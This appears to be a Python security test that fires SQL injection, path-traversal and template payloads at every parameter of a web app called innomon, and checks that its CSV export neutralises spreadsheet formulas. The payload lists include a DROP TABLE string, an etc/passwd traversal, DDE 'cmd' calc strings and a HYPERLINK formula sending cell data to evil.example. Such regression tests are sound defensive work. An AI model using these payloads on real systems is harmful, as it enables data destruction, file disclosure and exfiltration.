#!/usr/bin/env python3
"""test_injection.py - hostile text in every parameter changes nothing it should not. SQL and
expression payloads go into every path parameter of every route of src/web/route.c, every query
parameter the handlers read (found in src/web by their req_query calls) and every field of the
JSON and form bodies; no answer is a 5xx, a filter never widens (an indicator of ' OR '1'='1
matches nothing), and afterwards the store passes SQLite's integrity check, its audit chain
verifies and no table lost a row. CSV exports: a published source that starts with =, +, -,
@, a tab or a carriage return is written with a leading ' (OWASP), numbers are written as they
are. Prints TAP. usage: test_injection.py INNOMON_BIN SOURCE_ROOT"""
import csv
import io
import os
import re
import sys
import urllib.parse

sys.path.insert(0, os.path.dirname(__file__))
from seclib import IND, Client, Server, Tap, body_fields, free_tmp, innomon, make_store, query_params, routes, sql  # noqa: E402,E501

BIN, ROOT = sys.argv[1], sys.argv[2]
T = Tap()
STATS = {}

PAYLOADS = ["' OR '1'='1", "1; DROP TABLE observations; --", "\") OR 1=1 --", "${7*7}{{7*7}}%s%n", "..%2f..%2fetc%2fpasswd"]
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def store_state(db):
    tables = [t for (t,) in sql(db, "SELECT name FROM sqlite_master WHERE type='table' AND name NOT LIKE 'sqlite_%'")]
    return {t: sql(db, 'SELECT count(*) FROM "%s"' % t)[0][0] for t in tables}


def csv_formulas(port):
    analyst = Client(port, "analyst")
    vals = [{"indicator": IND, "region": reg, "period": "2025", "value": 7.5, "source": src, "note": "-42"}
            for reg, src in zip(("changsha", "zhuzhou", "xiangtan", "cs-hitech", "zz-hitech", "xt-hitech"), FORMULAS)]
    r = analyst.call("POST", "/api/v1/values", {"values": vals, "submit": True})
    if not T.check(r.status == 201, "setup: values whose sources are formulas are entered", r.text()):
        return
    for v in r.json()["values"]:
        oid = v["id"]
        for step in ("approve", "publish"):  # a second person approves (the four-eyes rule)
            r = Client(port, "admin").call("POST", "/api/v1/observations/%d/%s" % (oid, step), {})
            if r.status != 200:
                T.check(False, "setup: %s value %d" % (step, oid), r.text())
                return
            oid = r.json()["id"]  # each step is a new revision
    r = Client(port).get("/api/v1/export?format=csv")
    rows = list(csv.reader(io.StringIO(r.body.decode("utf-8-sig"), newline="")))
    head = rows[0]
    dangerous = []
    for row in rows[1:]:
        for name, cell in zip(head, row):
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                try:
                    float(cell.replace(",", ""))
                except ValueError:
                    dangerous.append("%s: %r" % (name, cell))
    T.check(r.status == 200 and not dangerous, "the CSV export has no cell a spreadsheet would run as a formula",
            "\n".join(dangerous))
    sources = [row[head.index("SOURCE")] for row in rows[1:] if row[head.index("INDICATOR")] == IND]
    # (the import trims a leading tab or carriage return: what is left still starts with =)
    T.check(all(("'" + f.strip()) in sources for f in FORMULAS), "each formula source is kept, behind a leading '",
            sources)
    notes = [row[head.index("COMMENT")] for row in rows[1:] if row[head.index("SOURCE")].startswith("'")]
    T.check(notes and all(n == "-42" for n in notes), "a number in a text column is written as it is", notes)
    values = [row[head.index("OBS_VALUE")] for row in rows[1:]]
    T.check(any(v.startswith("-") for v in values) or all(re.match(r"^-?[0-9.]+$", v) for v in values),
            "the value column holds plain numbers", values[:5])


def main():
    tmp = free_tmp("innomon-inj-")
    db = make_store(BIN, tmp)
    srv = Server(BIN, db)
    try:
        csv_formulas(srv.port)
        before = store_state(db)
        admin = Client(srv.port, "admin")
        anon = Client(srv.port)
        qnames = query_params(ROOT)
        fnames = body_fields(ROOT)
        T.check(len(qnames) > 20 and len(fnames) > 40, "the parameter names are found in src/web (%d query, %d body)"
                % (len(qnames), len(fnames)))
        fivexx, n = [], 0
        for method, pattern, kind, need, name in routes(ROOT):
            if name in ("api_session_delete", "signout", "api_account_password", "account_password"):
                continue  # would end the admin's session or change its password: not about injection
            for p in PAYLOADS:
                enc = urllib.parse.quote(p, safe="")
                path = re.sub(r":[a-z_]+", enc, pattern)
                query = "&".join("%s=%s" % (q, enc) for q in qnames)
                target = path + "?" + query
                if method == "GET":
                    rs = [admin.get(target), anon.get(target)]
                elif kind == "ROUTE_API":
                    rs = [admin.call(method, target, {f: p for f in fnames})]
                else:
                    rs = [admin.form(target, {f: p for f in fnames})]
                for r in rs:
                    n += 1
                    STATS[r.status] = STATS.get(r.status, 0) + 1
                    if r.status >= 500:
                        fivexx.append("%s %s -> %d" % (method, target[:120], r.status))
        T.note("statuses: %s" % sorted(STATS.items()))
        T.check(not fivexx, "%d requests with payloads in every parameter: no 5xx" % n, "\n".join(fivexx[:20]))
        r = admin.get("/api/v1/values?indicator=" + urllib.parse.quote("' OR '1'='1"))
        T.check(r.status in (200, 400, 404, 422) and (r.status != 200 or r.json() == []),
                "a filter of ' OR '1'='1 matches nothing", r.text()[:200])
        after = store_state(db)
        lost = {t: (before[t], after.get(t)) for t in before if after.get(t, -1) < before[t]}
        T.check(not lost, "no table lost a row", lost)
    finally:
        srv.stop()
    T.check(sql(db, "PRAGMA integrity_check") == [("ok",)], "SQLite's integrity check passes")
    p = innomon(BIN, db, "audit", "verify", check=False)
    T.check(p.returncode == 0, "the audit chain verifies", p.stdout + p.stderr)
    T.done()


main()
